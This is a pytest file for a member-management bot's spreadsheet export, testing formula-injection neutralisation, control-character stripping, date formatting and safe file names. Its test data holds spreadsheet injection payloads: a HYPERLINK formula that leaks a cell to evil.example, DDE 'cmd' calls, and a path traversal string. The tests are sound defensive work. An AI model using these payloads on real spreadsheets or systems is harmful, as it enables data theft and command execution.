"""bot/render/exports.py: hostile text in CSV and XLSX files, read back as a spreadsheet would
read them. Formula injection (OWASP's list of dangerous first characters), control
characters, dates, sheet names and file names."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import EXIT_OK, main
from bot.render.exports import export_table, file_name, sheet_title, slug

HEADER = ["Mã đảng viên", "Họ và tên", "Nội dung", "Thời hạn", "Điểm"]
# What members type or an import carries: each starts like a formula (or an error value).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1+2",
    "#N/A",
]


def _xlsx(rows: list[list[object]], header: list[str] = HEADER, sheet: str = "Data"):
    return load_workbook(io.BytesIO(export_table("xlsx", header, rows, sheet=sheet))).active


def _csv(rows: list[list[object]], header: list[str] = HEADER) -> list[list[str]]:
    content = export_table("csv", header, rows).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_every_text_as_a_string_never_a_formula(text: str) -> None:
    sheet = _xlsx([["DV001", text, f"Tự học {text}", None, 5]])
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value == text  # kept as typed, but inert
    assert sheet.cell(row=2, column=3).data_type == "s"
    assert sheet.cell(row=2, column=5).data_type == "n"  # numbers stay numbers


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_each_dangerous_first_character(first: str) -> None:
    text = f"{first}HYPERLINK(1)"
    rows = _csv([["DV001", text, f"an {first} inside is fine", None, -5]])
    assert rows[1][1] == "'" + text  # OWASP: a leading quote
    assert rows[1][2] == f"an {first} inside is fine"
    assert rows[1][4] == "-5"  # a number, not typed text


def test_every_cell_of_a_hostile_table_is_inert_in_both_formats() -> None:
    rows = [[f"DV{n:03d}", text, text, date(2026, 6, 30), n] for n, text in enumerate(HOSTILE)]
    sheet = _xlsx(rows)
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
        assert row[1].data_type == "s"
    for row in _csv(rows)[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_control_characters_are_stripped_not_fatal() -> None:
    rows = [["DV001", "Nguyễn\x01 Văn\x07 An", "Dòng 1\nDòng 2\x0b\x1b", None, 1]]
    sheet = _xlsx(rows, header=[*HEADER[:4], "Điểm\x08"], sheet="Năm\x00 2026")
    assert sheet.cell(row=2, column=2).value == "Nguyễn Văn An"
    assert sheet.cell(row=2, column=3).value == "Dòng 1\nDòng 2"
    assert sheet.cell(row=1, column=5).value == "Điểm" and sheet.title == "Năm 2026"
    assert _csv(rows)[1][1:3] == ["Nguyễn Văn An", "Dòng 1\nDòng 2"]


def test_dates_are_date_cells_in_xlsx_and_day_month_year_in_csv() -> None:
    rows = [["DV001", "An", "Đọc sách", date(2026, 6, 30), 1], ["DV002", "Bích", "x", None, 2]]
    sheet = _xlsx(rows)
    cell = sheet.cell(row=2, column=4)
    assert cell.is_date and cell.value == datetime(2026, 6, 30)
    assert cell.number_format == "DD/MM/YYYY"
    assert sheet.cell(row=3, column=4).value is None
    assert _csv(rows)[1][3] == "30/06/2026" and _csv(rows)[2][3] == ""


def test_the_sheet_has_a_bold_frozen_header_and_sized_columns() -> None:
    sheet = _xlsx([["DV001", "Nguyễn Văn An", "Đọc " * 40, date(2026, 1, 1), 1]])
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    widths = {key: dim.width for key, dim in sheet.column_dimensions.items()}
    assert widths["C"] == 62  # capped at 60 characters
    assert 10 <= widths["B"] < widths["C"] and widths["D"] >= 12


def test_sheet_names_are_what_excel_accepts() -> None:
    assert sheet_title("Điểm danh") == "Điểm danh"
    assert sheet_title("Quý 1/2026: [chi bộ] *?\\") == "Quý 1 2026 chi bộ"
    assert len(sheet_title("Đảng bộ " * 10)) <= 31
    assert sheet_title("\x01//") == "Data"
    assert _xlsx([], sheet="Cam kết/2026 " * 5).title == sheet_title("Cam kết/2026 " * 5)


def test_file_names_are_ascii_slugs_of_the_unit() -> None:
    assert slug("Chi bộ Khu vực 1") == "chi-bo-khu-vuc-1"
    assert slug("Đảng ủy phường Ninh Kiều") == "dang-uy-phuong-ninh-kieu"
    assert slug("../../etc/passwd\x00") == "etc-passwd"
    assert file_name("cam-ket", "2026", ["Chi bộ Khu vực 1"], "xlsx") == (
        "cam-ket-2026-chi-bo-khu-vuc-1.xlsx"
    )
    assert file_name("cam-ket", "2026", ["Chi bộ Khu vực 1", "Chi bộ 2"], "csv") == (
        "cam-ket-2026-chi-bo-khu-vuc-1-va-1-don-vi-khac.csv"
    )
    assert file_name("cam-ket", "2026", ["党支部"], "csv") == "cam-ket-2026.csv"


def test_the_cli_exports_a_unit_whose_names_hold_control_characters(
    capsys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, clean_env: None, data_dir: Path
) -> None:
    """Imports refuse control characters, but older rows (or a hand edit) may hold them:
    the export strips them instead of failing for the whole unit with a traceback."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CADREBOT_DB", "data/cli.sqlite3")
    assert main(["units", "import", str(data_dir / "org_units.csv")]) == EXIT_OK
    assert main(["members", "import", str(data_dir / "org_members.csv")]) == EXIT_OK
    assert main(["campaign", "create", "--year", "2026", "--topic", "Nêu gương năm 2026"]) == 0
    with sqlite3.connect(tmp_path / "data" / "cli.sqlite3") as conn:
        conn.execute("UPDATE members SET full_name = 'Trần\x01 Thị\x07 Bích' WHERE code='DV001'")
        conn.execute("UPDATE units SET name = 'Chi bộ\x0b Khu phố Đông Hưng' WHERE code='CB-BT1'")
    capsys.readouterr()
    out = tmp_path / "out.xlsx"
    code = main(
        ["export", "commitments", "--unit", "CB-BT1", "--format", "xlsx", "--out", str(out)]
    )
    printed = capsys.readouterr()
    assert code == EXIT_OK, printed.err
    assert "Traceback" not in printed.err
    assert "cam-ket-2026-chi-bo-khu-pho-dong-hung.xlsx" in printed.out
    names = {row[2].value for row in load_workbook(out).active.iter_rows(min_row=2)}
    assert "Trần Thị Bích" in names
